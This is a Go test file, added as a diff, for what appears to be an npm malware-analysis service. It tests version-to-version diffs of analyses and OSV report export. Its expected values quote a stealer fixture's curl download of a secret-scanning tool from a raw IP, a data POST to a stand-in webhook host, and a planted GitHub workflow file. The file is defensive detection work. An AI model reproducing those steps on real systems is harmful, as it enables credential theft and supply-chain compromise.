@@ -1,0 +1,182 @@
+package api
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/json"
+	"net/http"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/fumehood/fumehood/analysis"
+	"github.com/fumehood/fumehood/store"
+	"github.com/fumehood/fumehood/trace"
+)
+
+// seedEarlier stores version 4.1.2 of the fixture's package, analysed a
+// day before it: the same run cut before the stealer's download and post.
+func seedEarlier(t *testing.T, h *harness, later *store.Record) *store.Record {
+	t.Helper()
+	ctx := context.Background()
+	f, err := os.Open(fixtureTrace)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	z, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	full, err := trace.Decode(z)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cut := &trace.Trace{Phases: full.Phases}
+	for _, e := range full.Events {
+		if e.Seq < 2380 {
+			cut.Events = append(cut.Events, e)
+		}
+	}
+	cut.Processes = trace.BuildTable(cut, h.rules.Policy()).Processes()
+	var buf bytes.Buffer
+	if err := trace.Encode(&buf, cut); err != nil {
+		t.Fatal(err)
+	}
+	digest, err := h.blobs.Put(ctx, &buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := later.Analysis
+	a.ID, a.Package.Version, a.Verdict, a.Hits = "earlier", "4.1.2", analysis.Suspicious, []analysis.Hit{{Rule: "cred-npm-token", Events: []uint64{1276}}}
+	rec := &store.Record{Analysis: analysis.Analysis{ID: a.ID, Package: a.Package}, Submitted: later.Submitted.Add(-24 * time.Hour)}
+	if err := h.st.Create(ctx, rec); err != nil {
+		t.Fatal(err)
+	}
+	if err := h.st.Complete(ctx, &a, digest); err != nil {
+		t.Fatal(err)
+	}
+	got, err := h.st.Get(ctx, a.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return got
+}
+
+func TestDiff(t *testing.T) {
+	h := newHarness(t)
+	later := seedFixture(t, h.st, h.blobs)
+	earlier := seedEarlier(t, h, later)
+
+	check := func(what string, c analysis.Changes) {
+		t.Helper()
+		if c.From != earlier.ID || c.To != later.ID {
+			t.Errorf("%s: from %s to %s, want %s to %s", what, c.From, c.To, earlier.ID, later.ID)
+		}
+		for _, w := range []struct {
+			in   []string
+			want string
+		}{
+			{c.Hits.Added, "honeytoken-exfil"},
+			{c.Processes.Added, "install package_code /usr/bin/curl curl -s -L http://203.0.113.40/trufflehog_linux_amd64.tar.gz -o /tmp/th.tgz"},
+			{c.Network.Added, "install http POST webhook-site.invalid/<uuid>"},
+			{c.Network.Added, "install dns A webhook-site.invalid"},
+			{c.Files.Added, "install write /home/alex/projects/app/.github/workflows/shai-hulud-workflow.yml"},
+		} {
+			if !slices.Contains(w.in, w.want) {
+				t.Errorf("%s: %q lacks %q", what, w.in, w.want)
+			}
+		}
+		if len(c.Hits.Removed)+len(c.Processes.Removed)+len(c.Network.Removed)+len(c.Scripts.Changed) != 0 {
+			t.Errorf("%s: removed or changed what both versions did: %+v", what, c)
+		}
+	}
+	// A higher version analysed between the two is not the later one's
+	// previous: versions compare by number, not by submission.
+	higher := earlier.Analysis
+	higher.ID, higher.Package.Version = "higher", "4.1.4"
+	if err := h.st.Create(context.Background(), &store.Record{Analysis: analysis.Analysis{ID: higher.ID, Package: higher.Package},
+		Submitted: later.Submitted.Add(-12 * time.Hour)}); err != nil {
+		t.Fatal(err)
+	}
+	if err := h.st.Complete(context.Background(), &higher, earlier.TraceDigest); err != nil {
+		t.Fatal(err)
+	}
+	var doc AnalysisResponse
+	if resp := h.json(store.RoleRead, "GET", "/v1/analyses/"+later.ID, "", &doc); resp.StatusCode != 200 || doc.ChangesFromPrevious == nil {
+		t.Fatalf("GET the later analysis: %d, changes_from_previous %v", resp.StatusCode, doc.ChangesFromPrevious)
+	}
+	check("changes_from_previous", *doc.ChangesFromPrevious)
+	var first AnalysisResponse
+	h.json(store.RoleRead, "GET", "/v1/analyses/"+earlier.ID, "", &first)
+	if first.ChangesFromPrevious != nil {
+		t.Errorf("the first version has changes_from_previous %+v", first.ChangesFromPrevious)
+	}
+	for _, path := range []string{
+		"/v1/analyses/" + later.ID + "/diff?against=" + earlier.ID,
+		"/v1/diff?from=" + earlier.ID + "&to=" + later.ID,
+		"/v1/diff?ecosystem=npm&name=ngx-form-kit&from=4.1.2&to=4.1.3",
+	} {
+		var c analysis.Changes
+		if resp := h.json(store.RoleRead, "GET", path, "", &c); resp.StatusCode != 200 {
+			t.Fatalf("%s: got %d", path, resp.StatusCode)
+		}
+		check(path, c)
+	}
+	for path, want := range map[string]int{
+		"/v1/analyses/" + later.ID + "/diff":                           400,
+		"/v1/analyses/" + later.ID + "/diff?against=absent":            404,
+		"/v1/diff?from=" + earlier.ID:                                  400,
+		"/v1/diff?ecosystem=npm&name=ngx-form-kit&from=4.1.2&to=9.9.9": 404,
+		"/v1/diff?ecosystem=cargo&name=x&from=1&to=2":                  400,
+		"/v1/diff?from=a&to=b&color=red":                               400,
+	} {
+		if resp := h.json(store.RoleRead, "GET", path, "", nil); resp.StatusCode != want {
+			t.Errorf("%s: got %d, want %d", path, resp.StatusCode, want)
+		}
+	}
+	// A package called diff, scoped or not, is still a package.
+	if resp := h.json(store.RoleRead, "GET", "/v1/packages/npm/diff", "", nil); resp.StatusCode != 200 {
+		t.Errorf("package history of diff: got %d", resp.StatusCode)
+	}
+	for _, path := range []string{"/diff?from=" + earlier.ID + "&to=" + later.ID, "/analyses/" + later.ID} {
+		resp, body := h.page(store.RoleRead, path)
+		if resp.StatusCode != http.StatusOK || !strings.Contains(body, "webhook-site.invalid/&lt;uuid&gt;") || !strings.Contains(body, `class="added"`) {
+			t.Errorf("%s: %d, lacks the added POST\n%s", path, resp.StatusCode, h.logs)
+		}
+		checkHTML(t, path, body)
+	}
+}
+
+func TestOSV(t *testing.T) {
+	h := newHarness(t)
+	mal := seedFixture(t, h.st, h.blobs)
+	benign := h.seed("npm", "left-pad", "1.3.0", analysis.Benign, "", 3)
+	queued, _, _ := h.sched.Submit(context.Background(), Submission{Spec: "npm:later@1.0.0"})
+	var o struct {
+		ID       string `json:"id"`
+		Summary  string `json:"summary"`
+		Affected []struct {
+			Package  struct{ Ecosystem, Name string }
+			Versions []string
+		}
+	}
+	if resp := h.json(store.RoleRead, "GET", "/v1/analyses/"+mal.ID+"/osv", "", &o); resp.StatusCode != 200 {
+		t.Fatalf("osv of a malicious analysis: got %d", resp.StatusCode)
+	}
+	if o.ID != "x_fumehood-"+mal.ID || o.Summary != "Malicious code in ngx-form-kit (npm)" || len(o.Affected) != 1 ||
+		o.Affected[0].Package.Name != "ngx-form-kit" || o.Affected[0].Versions[0] != "4.1.3" {
+		t.Errorf("osv record %+v", o)
+	}
+	for id, want := range map[string]string{benign.ID: "is benign", queued.ID: "is queued", "absent": "not found"} {
+		resp := h.json(store.RoleRead, "GET", "/v1/analyses/"+id+"/osv", "", nil)
+		var e errorBody
+		json.NewDecoder(resp.Body).Decode(&e)
+		if resp.StatusCode != 404 || !strings.Contains(e.Error.Message, want) {
+			t.Errorf("osv of %s: got %d %q, want 404 saying %q", id, resp.StatusCode, e.Error.Message, want)
+		}
+	}
+}
